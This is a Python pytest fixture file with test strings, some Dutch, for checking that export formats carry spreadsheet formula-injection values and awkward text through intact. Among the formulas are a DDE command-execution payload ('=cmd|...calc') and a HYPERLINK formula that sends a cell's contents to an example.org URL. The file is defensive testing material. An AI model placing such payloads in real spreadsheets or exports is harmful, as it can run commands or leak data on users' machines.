"""Hostile and awkward texts that every format must bring over."""

import pytest

FORMULAS = [
    "=1+1",
    "+31 6 12345678",
    "-5",
    "-mooi park",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\u00a0=1+1",
    " \t=1",
    "\u200d=1+1",
    '=HYPERLINK("http://example.org/?"&A1;"klik")',
    "=cmd|' /C calc'!A0",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
]
AWKWARD = [
    "'s avonds te druk",
    'zei "nee", en; toch\tniet',
    "regel een\nregel twee",
    "privé, één, naïef, 100 €",
    "👩‍👩‍👧 gezin",
    "<r><t>leuk</t></r>",
    "<b>vet</b> & <!-- -->",
    "_x0041_ en _x000D_",
    "https://example.org/pad",
    "007",
    "1e5",
    "TRUE",
    "2024-05-01",
]


@pytest.fixture(params=FORMULAS, ids=[ascii(text)[:20] for text in FORMULAS])
def formula(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture(params=AWKWARD, ids=[ascii(text)[:20] for text in AWKWARD])
def awkward(request: pytest.FixtureRequest) -> str:
    return request.param
